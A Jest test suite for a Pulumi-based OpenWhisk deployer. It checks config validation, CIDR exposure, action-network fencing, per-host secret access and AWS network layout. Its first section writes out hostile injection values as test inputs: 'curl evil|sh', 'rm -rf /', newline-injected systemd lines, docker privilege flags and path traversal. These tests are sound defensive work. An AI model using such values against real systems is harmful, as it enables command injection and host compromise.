/**
 * No config value reaches a root shell, nothing is open to the world, bad input is named.
 * Hostile configs exit 2 naming the key (no stack trace) or render safely; the launcher that runs the
 * containers on aws hosts is run for real under `sh` with a stand-in docker that prints its argv.
 */
import { execFileSync } from "node:child_process";
import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { gunzipSync } from "node:zlib";
import { byFamily, judgeWorld, parseAnyCidr } from "../components/config/cidr";
import { validateStackConfig, parseStackConfig } from "../components/config/validate";
import { dockerRunArgs, renderCloudInit, userDataFor, USER_DATA_LIMIT } from "../components/plan/cloudInit";
import { argvFile, envFileLine, LAUNCHER, shellWord, UnsafeHostValueError } from "../components/plan/hostFiles";
import { renderStack } from "../components/plan/renderStack";
import { actionFenceScript } from "../components/plan/actionIsolation";
import { main as render } from "../cli/render";
import { capture } from "./support/capture";
import { rawConfig, withKey, type RawConfig } from "./support/configs";
import { ofType, runUnderMocks } from "./support/mockRun";
import { decodedFiles, hostArgs, hostEnv, hostFiles } from "./support/hostSetup";

const keysOf = (raw: RawConfig) => {
  const r = validateStackConfig(raw);
  return r.ok ? [] : r.issues.map((i) => i.key);
};
const dir = mkdtempSync(join(tmpdir(), "hardening-"));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** Renders a stack file through the real command: exit code and what it printed. */
function renderFile(yaml: string, name = "Pulumi.hostile.yaml") {
  const file = join(dir, name);
  writeFileSync(file, yaml);
  return capture(() => render(["--config-file", file, "--json"]));
}

const AWS = rawConfig({ target: "aws", flavor: "pekko" });

describe("1. hostile values: refused at the key, before anything reaches a host", () => {
  test.each([
    ["a newline in an image adds a [Service] section", "openwhisk:release", { controllerImage: "openwhisk/controller:x\n[Service]\nExecStartPre=/bin/sh -c 'id'" }, "openwhisk:release.controllerImage"],
    ["a space in an image", "openwhisk:release", { invokerImage: "openwhisk/invoker:x --privileged" }, "openwhisk:release.invokerImage"],
    ["shell in the region", "openwhisk:aws", { region: "eu-west-1 $(curl evil|sh)" }, "openwhisk:aws.region"],
    ["docker flags in a runc version", "openwhisk:invokers", { useRunc: true, runc: { hostVersion: "1.1 -v /:/host --privileged", imageVersion: "1.1" } }, "openwhisk:invokers.runc.hostVersion"],
    ["docker flags in the runc root", "openwhisk:invokers", { runcRoot: "/run/x -v /:/host" }, "openwhisk:invokers.runcRoot"],
    ["a parent segment in a path", "openwhisk:invokers", { runcRoot: "/run/../etc" }, "openwhisk:invokers.runcRoot"],
    ["a newline in a downing comment", "openwhisk:controllers", { downing: { mode: "auto", after: "10s", strategy: "keep-oldest", comment: "a\nExecStart=/bin/sh" } }, "openwhisk:controllers.downing.comment"],
    ["a quote in an instance type", "openwhisk:aws", { instanceTypes: { controller: "m6i.large' x" } }, "openwhisk:aws.instanceTypes.controller"],
    ["a path in a service image", "openwhisk:services", { images: { init: "curl;rm -rf /" } }, "openwhisk:services.images.init"],
    ["a URL in a Kafka host", "openwhisk:services", { kafka: { hosts: ["kafka:9092 --x"] } }, "openwhisk:services.kafka.hosts[0]"],
  ])("%s", (_what, key, patch, expected) => {
    expect(keysOf(withKey(AWS, key, patch))).toEqual([expected]);
  });

  test("a newline in a secret is refused at its key and never echoed", () => {
    const r = validateStackConfig({ ...AWS, "openwhisk:couchdbPassword": "pass\nX=1" });
    expect(r.ok).toBe(false);
    if (!r.ok) {
      expect(r.issues.map((i) => i.key)).toEqual(["openwhisk:couchdbPassword"]);
      expect(JSON.stringify(r.issues)).not.toContain("pass");
    }
  });

  test("the render command: exit 2 with every key named, no stack trace", () => {
    const r = renderFile(`config:
  openwhisk:target: aws
  openwhisk:release: { flavor: pekko, controllerImage: "openwhisk/controller:x\\n[Service]", invokerImage: openwhisk/invoker:x }
  openwhisk:controllers: { count: 1, seeds: 1, remotingPort: 2551, downing: { mode: auto, after: 10s } }
  openwhisk:invokers: { count: 1, useRunc: false, runcRoot: "/x -v /:/h" }
  openwhisk:aws: { region: "eu-west-1 $(id)", vpcCidr: 10.1.0.0/16, subnets: [{ cidr: 10.1.1.0/24, availabilityZone: eu-west-1a }], controllerAddresses: [10.1.1.10], coreAddress: 10.1.1.5, zoneName: a.internal, adminCidrs: [10.1.0.0/16], edgeCidrs: [10.0.0.0/8] }
`);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/openwhisk:release\.controllerImage/);
    expect(r.stderr).toMatch(/openwhisk:invokers\.runcRoot/);
    expect(r.stderr).toMatch(/openwhisk:aws\.region/);
    expect(r.stderr).not.toMatch(/\n\s+at /);
    expect(r.stdout).toBe("");
  });

  test("the host-file builders refuse what their consumer would misread (defence in depth)", () => {
    expect(() => envFileLine("A", "x\nB=1")).toThrow(UnsafeHostValueError);
    expect(() => envFileLine("A B", "x")).toThrow(UnsafeHostValueError);
    expect(() => argvFile(["a\nb"])).toThrow(UnsafeHostValueError);
    expect(shellWord("it's $(id)")).toBe(`'it'\\''s $(id)'`);
    expect(execFileSync("sh", ["-c", `printf %s ${shellWord("it's $(id) `x` \\")}`]).toString()).toBe("it's $(id) `x` \\");
  });

  test("a comment with spaces, quotes and $ arrives at docker as one argument: the launcher run by sh", () => {
    const comment = `oldest wins: it's "the" anchor; $HOME \\ %n`;
    const config = parseStackConfig(withKey(AWS, "openwhisk:controllers", { downing: { mode: "auto", after: "10s", strategy: "keep-oldest", comment } }));
    const spec = renderStack(config, "t").nodes.find((n) => n.role === "controller")!;
    const etc = join(dir, "etc-openwhisk");
    const bin = join(dir, "bin");
    mkdirSync(etc, { recursive: true });
    mkdirSync(bin, { recursive: true });
    writeFileSync(join(etc, `${spec.name}.args`), argvFile(dockerRunArgs(spec)));
    writeFileSync(join(etc, `${spec.name}.image`), argvFile([spec.image]));
    // A stand-in for /usr/bin/docker: prints each argument on its own line, NUL-terminated.
    writeFileSync(join(bin, "docker"), "#!/bin/sh\nfor a in \"$@\"; do printf '%s\\0' \"$a\"; done\n");
    chmodSync(join(bin, "docker"), 0o755);
    const launcher = join(dir, "openwhisk-container");
    writeFileSync(launcher, LAUNCHER.replace("dir=/etc/openwhisk", `dir=${etc}`).replace(/\/usr\/bin\/docker/g, join(bin, "docker")));
    const run = execFileSync("sh", [launcher, spec.name, "run"]).toString().split("\0").slice(0, -1);
    expect(run).toEqual(["run", ...dockerRunArgs(spec)]);
    expect(run).toContain(`openwhisk.downing-comment=${comment}`);
    expect(run.slice(-3)).toEqual(["/bin/sh", "-c", "exec /init.sh 0"]);
    // pull: only when the host lacks the image (the stand-in docker answers inspect with success: present, so no pull).
    expect(execFileSync("sh", [launcher, spec.name, "pull"]).toString().split("\0").slice(0, -1)).toEqual([]);
    expect(() => execFileSync("sh", [launcher, "../x", "run"], { stdio: "pipe" })).toThrow();
  });
});

describe("2. the world is judged by parsing, not by string compare", () => {
  test.each([
    [["0.0.0.0/1", "128.0.0.0/1"], true],
    [["0::/0"], true],
    [["0:0:0:0:0:0:0:0/0"], true],
    [["::/1", "8000::/1"], true],
    [["10.0.0.0/7"], true],
    [["10.0.0.0/8"], false],
    [["10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16"], false],
    [["2001:db8::/32"], false],
  ])("%j open: %s", (cidrs, open) => {
    expect(judgeWorld(cidrs).open).toBe(open);
  });

  test("the minimum prefix is configurable", () => {
    expect(judgeWorld(["10.0.0.0/8"], 16).open).toBe(true);
    expect(keysOf(withKey(withKey(AWS, "openwhisk:aws", { adminCidrs: ["10.0.0.0/8"] }), "openwhisk:minimumCidrPrefix", 16))).toEqual(["openwhisk:aws.adminCidrs[0]"]);
    expect(keysOf({ ...AWS, "openwhisk:minimumCidrPrefix": 16 })).toEqual([]);
  });

  test.each(["ffff/999", "10.0.0.1/24", "1.2.3.4/33", "::1::/64", "2001:db8::/129", "10.0.0.0/08"])("garbage %s is no CIDR", (text) => {
    expect(parseAnyCidr(text)).toBeUndefined();
    expect(keysOf(withKey(AWS, "openwhisk:aws", { adminCidrs: [text] }))).toEqual(["openwhisk:aws.adminCidrs[0]"]);
  });

  test("config: two halves of the internet as admin or JMX CIDRs are refused naming the list", () => {
    expect(keysOf(withKey(AWS, "openwhisk:aws", { adminCidrs: ["0.0.0.0/1", "128.0.0.0/1"] }))).toEqual(["openwhisk:aws.adminCidrs[0]"]);
    expect(keysOf(rawConfig({ downing: { mode: "manual", via: "jmx", port: 15000, allowedCidrs: ["0:0:0:0:0:0:0:0/0"] } }))).toEqual(["openwhisk:controllers.downing.allowedCidrs[0]"]);
  });

  test("IPv6 ranges go into the IPv6 fields of the security group rules", async () => {
    const run = await runUnderMocks(withKey(AWS, "openwhisk:aws", { adminCidrs: ["10.60.0.0/16", "2001:db8::/48"] }), { stack: "v6" });
    const sg = ofType(run, "aws:ec2/securityGroup:SecurityGroup").find((s) => (s.inputs.tags as Record<string, string>)["openwhisk:role"] === "invoker")!;
    const ssh = (sg.inputs.ingress as Record<string, unknown>[]).find((r) => r.fromPort === 22)!;
    expect([ssh.cidrBlocks, ssh.ipv6CidrBlocks]).toEqual([["10.60.0.0/16"], ["2001:db8::/48"]]);
    expect(byFamily(["::/0", "10.0.0.0/8"])).toEqual({ cidrBlocks: ["10.0.0.0/8"], ipv6CidrBlocks: ["::/0"] });
  });
});

describe("5. validation gaps", () => {
  test.each([
    ["a controller API range past 65535", "openwhisk:controllers", { apiPortBase: 65534 }, "openwhisk:controllers.apiPortBase"],
    ["invoker and controller API ranges on one docker host", "openwhisk:invokers", { apiPortBase: 10002 }, "openwhisk:invokers.apiPortBase"],
    ["the edge inside the invoker range", "openwhisk:docker", { edgePort: 12001 }, "openwhisk:docker.edgePort"],
    ["SSH's port", "openwhisk:controllers", { apiPortBase: 21 }, "openwhisk:controllers.apiPortBase"],
  ])("docker: %s", (_w, key, patch, expected) => {
    expect(keysOf(withKey(rawConfig(), key, patch))).toEqual([expected]);
  });

  test("aws: JMX on a controller's published API port, remoting on one, a /8 or /29 VPC", () => {
    expect(keysOf(rawConfig({ target: "aws", downing: { mode: "manual", via: "jmx", port: 10002, allowedCidrs: ["10.60.0.0/16"] } }))).toEqual(["openwhisk:controllers.downing.port"]);
    expect(keysOf(withKey(AWS, "openwhisk:controllers", { remotingPort: 10001 }))).toEqual(["openwhisk:controllers.remotingPort"]);
    expect(keysOf(withKey(AWS, "openwhisk:aws", { vpcCidr: "10.0.0.0/8", subnets: [{ cidr: "10.60.1.0/24", availabilityZone: "eu-west-1a" }], controllerAddresses: ["10.60.1.10", "10.60.1.11", "10.60.1.12"] }))).toEqual(["openwhisk:aws.vpcCidr"]);
    expect(keysOf(withKey(AWS, "openwhisk:aws", { vpcCidr: "10.60.0.0/29" }))).toContain("openwhisk:aws.vpcCidr");
  });

  test("stack names are names, never paths", () => {
    const bad = capture(() => render(["--stack", "../../etc/passwd"]));
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/not a path/);
    const spaced = renderFile("config: {}\n", "Pulumi.a b.yaml");
    expect(spaced.code).toBe(2);
    expect(spaced.stderr).toMatch(/"a b".*not a stack name/);
  });

  test("a YAML alias that contains itself: exit 2 naming the key, no stack trace", () => {
    const r = renderFile("config:\n  openwhisk:runtimesManifest: &m { runtimes: *m }\n");
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/openwhisk:runtimesManifest: a YAML alias that contains itself/);
    expect(r.stderr).not.toMatch(/\n\s+at /);
  });

  test(".nan is reported as .nan, __proto__ at its own key", () => {
    const nan = validateStackConfig(withKey(rawConfig(), "openwhisk:invokers", { count: Number.NaN }));
    expect(!nan.ok && nan.issues.map((i) => [i.key, String(i.value)])).toEqual([["openwhisk:invokers.count", "NaN"]]);
    const r = renderFile(`config:
  openwhisk:target: docker
  openwhisk:release: { flavor: pekko, controllerImage: openwhisk/controller:x, invokerImage: openwhisk/invoker:x }
  openwhisk:controllers: { count: .nan, seeds: 1, remotingPort: 2551, downing: { mode: auto, after: 10s } }
  openwhisk:invokers: { count: 1, useRunc: false }
  openwhisk:docker: { subnet: 172.30.0.0/24, controllerAddresses: [172.30.0.10], __proto__: { polluted: true } }
`);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/openwhisk:controllers\.count: got \.nan \(not a number\)/);
    expect(r.stderr).toMatch(/openwhisk:docker\.__proto__: got \{"polluted":true\}; expected no such key/);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  test("user data over EC2's 16 KB is gzip-compressed; under it stays readable", () => {
    const big = `#cloud-config\n${"#".repeat(USER_DATA_LIMIT)}\n`;
    const out = userDataFor(big) as { userDataBase64: string };
    expect(gunzipSync(Buffer.from(out.userDataBase64, "base64")).toString()).toBe(big);
    expect(Buffer.from(out.userDataBase64, "base64").length).toBeLessThan(USER_DATA_LIMIT);
    expect(userDataFor("#cloud-config\n")).toEqual({ userData: "#cloud-config\n" });
    const spec = renderStack(parseStackConfig(AWS), "t").nodes.filter((n) => n.role === "controller" || n.role === "initdb");
    expect(renderCloudInit({ specs: spec, secretPrefix: "/openwhisk/t/", region: "eu-west-1" })).toContain("/usr/local/bin/openwhisk-container");
  });
});

describe("3. untrusted action code is fenced off", () => {
  test("docker: actions on their own network; the invoker joins it and the cluster's; APIs on 127.0.0.1 only", async () => {
    const run = await runUnderMocks(rawConfig({ controllers: 1, invokers: 1 }), { stack: "fence" });
    const containers = ofType(run, "docker:index/container:Container");
    const invoker = containers.find((c) => c.name.endsWith("invoker0"))!;
    expect((invoker.inputs.networksAdvanced as { name: string }[]).map((n) => n.name)).toEqual(["openwhisk", "openwhisk-actions"]);
    const env = (invoker.inputs.envs as string[]).find((e) => e.startsWith("CONFIG_whisk_containerFactory_containerArgs_network="));
    expect(env).toBe("CONFIG_whisk_containerFactory_containerArgs_network=openwhisk-actions");
    expect(ofType(run, "docker:index/network:Network").map((n) => n.inputs.name).sort()).toEqual(["openwhisk", "openwhisk-actions"]);
    // Kafka, ZooKeeper, CouchDB and the controllers are on the cluster network only.
    for (const c of containers.filter((x) => /kafka|zookeeper|couchdb|controller/.test(x.name))) {
      expect((c.inputs.networksAdvanced as { name: string }[]).map((n) => n.name)).toEqual(["openwhisk"]);
    }
    for (const c of containers.filter((x) => /controller\d|invoker\d/.test(x.name))) {
      for (const p of c.inputs.ports as { ip?: string }[]) expect(p.ip).toBe("127.0.0.1");
    }
    const edge = containers.find((c) => c.name.endsWith("nginx"))!;
    expect((edge.inputs.ports as { ip?: string }[])[0].ip).toBeUndefined();
  });

  test("aws: every host has a metadata hop limit of 1; invoker hosts a fence unit the invoker waits for", async () => {
    const run = await runUnderMocks(AWS, { stack: "fence" });
    const instances = ofType(run, "aws:ec2/instance:Instance");
    for (const i of instances) {
      const role = (i.inputs.tags as Record<string, string>)["openwhisk:role"];
      expect({ role, hop: (i.inputs.metadataOptions as Record<string, unknown>).httpPutResponseHopLimit }).toEqual({ role, hop: 1 });
    }
    const invoker = instances.find((i) => (i.inputs.tags as Record<string, string>)["openwhisk:role"] === "invoker")!;
    const files = new Map(hostFiles(invoker).map((f) => [f.path, f.content]));
    const unit = files.get("/etc/systemd/system/openwhisk-invoker0.service")!;
    expect(unit).toContain("ExecStartPre=/usr/bin/systemctl start openwhisk-action-fence.service");
    const fence = files.get("/usr/local/bin/openwhisk-action-fence")!;
    expect(fence).toContain("-A OPENWHISK-ACTIONS -d 169.254.0.0/16 -i ow-actions -j DROP");
    expect(fence).toContain("-A OPENWHISK-ACTIONS -d 10.60.0.0/16 -i ow-actions -j DROP");
    expect(fence).toContain("-A OPENWHISK-ACTIONS -s 192.168.255.0/24 -d 10.60.11.5/32 -i ow-actions -p tcp -m tcp --dport 443 -j RETURN");
    const args = hostArgs(invoker, "invoker0");
    expect(args.slice(args.indexOf("--network"), args.indexOf("--network") + 4)).toEqual(["--network", "openwhisk-actions", "--ip", "192.168.255.2"]);
    expect(hostEnv(invoker, "invoker0").CONFIG_whisk_containerFactory_containerArgs_network).toBe("openwhisk-actions");
  });

  test("aws, an existing VPC: the fence drops action traffic to every subnet, private ones (core host, invokers) included", () => {
    const a = AWS["openwhisk:aws"] as Record<string, unknown> & { subnets: object[]; privateSubnets: object[] };
    const { vpcCidr: _vpc, ...rest } = a;
    const id = (s: object, i: number, tier: string) => ({ ...s, id: `subnet-0${tier}${i}` });
    const config = parseStackConfig({
      ...AWS,
      "openwhisk:aws": { ...rest, vpcId: "vpc-0abc", subnets: a.subnets.map((s, i) => id(s, i, "a")), privateSubnets: a.privateSubnets.map((s, i) => id(s, i, "b")) },
    });
    const fence = actionFenceScript(config, "10.60.11.5");
    for (const cidr of ["10.60.1.0/24", "10.60.2.0/24", "10.60.3.0/24", "10.60.11.0/24", "10.60.12.0/24", "10.60.13.0/24"]) {
      expect(fence).toContain(`-A OPENWHISK-ACTIONS -d ${cidr} -i ow-actions -j DROP`);
    }
  });

  test("aws: the action subnet may not overlap the VPC", () => {
    expect(keysOf(withKey(AWS, "openwhisk:aws", { actionSubnet: "10.60.200.0/24" }))).toEqual(["openwhisk:aws.actionSubnet"]);
  });
});

describe("3. each host kind reads only its own secrets", () => {
  test("invoker hosts cannot read the JMX password or the auth keys; controller hosts can read what the init and JMX need", async () => {
    const run = await runUnderMocks(rawConfig({ target: "aws", flavor: "pekko", downing: { mode: "manual", via: "jmx", port: 15000, allowedCidrs: ["10.60.0.0/16"] } }), { stack: "roles" });
    const policies = ofType(run, "aws:iam/rolePolicy:RolePolicy");
    const readable = (kind: string) => {
      const p = policies.find((x) => x.name === `openwhisk-hosts-${kind}-read-secrets`)!;
      return (JSON.parse(String(p.inputs.policy)).Statement[0].Resource as string[]).map((arn) => arn.replace(/^.*\//, "")).sort();
    };
    // The mock gives each parameter an ARN ending in its name.
    expect(readable("invoker")).toEqual(["couchdbInvokerPassword", "invokerPassword"]);
    // Every controller host its own role (each writes only its own readiness parameter), with the same reads.
    for (const c of ["controller0", "controller1", "controller2"]) {
      expect(readable(`controller-${c}`)).toEqual(["controllerPassword", "couchdbControllerPassword", "couchdbInvokerPassword", "couchdbPassword", "guestAuthKey", "jmxPassword", "systemAuthKey"]);
    }
    // The core host reads the edge's TLS certificate and key, SSM parameters named in config.
    expect(readable("core")).toEqual(["certificate", "couchdbPassword", "key"]);
    const profiles = new Map(ofType(run, "aws:iam/instanceProfile:InstanceProfile").map((p) => [p.name, p]));
    for (const i of ofType(run, "aws:ec2/instance:Instance")) {
      const tags = i.inputs.tags as Record<string, string>;
      const kind = tags["openwhisk:role"] === "controller" ? `controller-${tags.Name}` : tags["openwhisk:role"];
      expect(String(i.inputs.iamInstanceProfile)).toContain(kind);
      expect(profiles.has(`openwhisk-hosts-${kind}-profile`)).toBe(true);
    }
  });
});

describe("4. network shape on aws", () => {
  test("invokers, the core host and non-seed controllers are private (NAT egress); only seeds have public addresses", async () => {
    const run = await runUnderMocks(rawConfig({ target: "aws", flavor: "pekko", controllers: 3, seeds: 2 }), { stack: "shape" });
    const byUrn = new Map(run.resources.map((r) => [r.urn, r]));
    const tierOf = (urn: string | undefined) => (byUrn.get(urn ?? "")?.inputs.tags as Record<string, string> | undefined)?.["openwhisk:tier"];
    for (const i of ofType(run, "aws:ec2/instance:Instance")) {
      const role = (i.inputs.tags as Record<string, string>)["openwhisk:role"];
      if (role === "controller") continue;
      expect({ role, public: i.inputs.associatePublicIpAddress, tier: tierOf(i.propertyDependencies.subnetId?.[0]) }).toEqual({ role, public: false, tier: "private" });
    }
    const enis = ofType(run, "aws:ec2/networkInterface:NetworkInterface");
    expect(enis.map((e) => tierOf(e.propertyDependencies.subnetId[0]))).toEqual(["public", "public", "private"]);
    const seedEips = ofType(run, "aws:ec2/eip:Eip").filter((e) => e.inputs.networkInterface !== undefined);
    expect(seedEips).toHaveLength(2);
    const nat = ofType(run, "aws:ec2/natGateway:NatGateway");
    expect(nat).toHaveLength(1);
    expect(tierOf(nat[0].propertyDependencies.subnetId[0])).toBe("public");
    const privateRoutes = ofType(run, "aws:ec2/routeTable:RouteTable").find((r) => r.name.endsWith("private-routes"))!;
    expect(privateRoutes.propertyDependencies.routes).toContain(nat[0].urn);
    for (const s of ofType(run, "aws:ec2/subnet:Subnet")) expect(s.inputs.mapPublicIpOnLaunch).toBe(false);
  });

  test("config: seeds in public subnets, the rest and the core host in private ones; private subnets required", () => {
    const aws = rawConfig({ target: "aws", controllers: 3, seeds: 2 });
    const a = aws["openwhisk:aws"] as Record<string, unknown>;
    expect(keysOf({ ...aws, "openwhisk:aws": { ...a, controllerAddresses: ["10.60.11.10", "10.60.2.11", "10.60.13.12"] } })).toEqual(["openwhisk:aws.controllerAddresses[0]"]);
    expect(keysOf({ ...aws, "openwhisk:aws": { ...a, controllerAddresses: ["10.60.1.10", "10.60.2.11", "10.60.3.12"] } })).toEqual(["openwhisk:aws.controllerAddresses[2]"]);
    expect(keysOf({ ...aws, "openwhisk:aws": { ...a, coreAddress: "10.60.1.5" } })).toEqual(["openwhisk:aws.coreAddress"]);
    const { privateSubnets: _p, ...noPrivate } = a;
    expect(keysOf({ ...aws, "openwhisk:aws": noPrivate })).toEqual(["openwhisk:aws.privateSubnets"]);
    expect(keysOf({ ...aws, "openwhisk:aws": { ...a, privateSubnets: [{ cidr: "10.60.1.0/25", availabilityZone: "eu-west-1a" }] } })).toContain("openwhisk:aws.privateSubnets[0].cidr");
  });

  test("the edge serves TLS with the certificate from config; port 80 only redirects; invokers call the API over https", () => {
    const config = parseStackConfig(AWS);
    const nodes = renderStack(config, "t").nodes;
    const edge = nodes.find((n) => n.role === "edge")!;
    const conf = String(edge.files[0].content);
    expect(conf).toMatch(/listen 443 ssl default_server;\n\s+server_name api\.test\.example\.com;\n\s+ssl_certificate \/etc\/nginx\/tls\/edge\.crt;\n\s+ssl_certificate_key \/etc\/nginx\/tls\/edge\.key;/);
    expect(conf).toMatch(/listen 80 default_server;\n\s+server_name api\.test\.example\.com;\n\s+location \/ping \{ return 200 'pong'; \}\n\s+location \/ \{ return 301 https:\/\/api\.test\.example\.com\$request_uri; \}/);
    expect(edge.files.slice(1)).toEqual([
      { containerPath: "/etc/nginx/tls/edge.crt", content: { parameter: "/test/edge/certificate", before: "", after: "\n" }, mode: "0644" },
      { containerPath: "/etc/nginx/tls/edge.key", content: { parameter: "/test/edge/key", before: "", after: "\n" }, mode: "0600" },
    ]);
    const inv = nodes.find((n) => n.role === "invoker")!;
    expect([inv.env.WHISK_API_HOST_PROTO, inv.env.WHISK_API_HOST_NAME, inv.env.WHISK_API_HOST_PORT]).toEqual(["https", "api.test.example.com", "443"]);
    const ud = decodedFiles(renderCloudInit({ specs: [edge], secretPrefix: "/openwhisk/t/", region: "eu-west-1" })).map((f) => f.content).join("\n");
    expect(ud).toContain(`=$(secret '/test/edge/key')`);
    expect(ud).not.toMatch(/BEGIN [A-Z ]*PRIVATE KEY/);
  });

  test("edgeCidrs has no world default: an aws stack without it is refused naming the key", () => {
    const a = { ...(AWS["openwhisk:aws"] as Record<string, unknown>) };
    delete a.edgeCidrs;
    expect(keysOf({ ...AWS, "openwhisk:aws": a })).toEqual(["openwhisk:aws.edgeCidrs"]);
  });
});
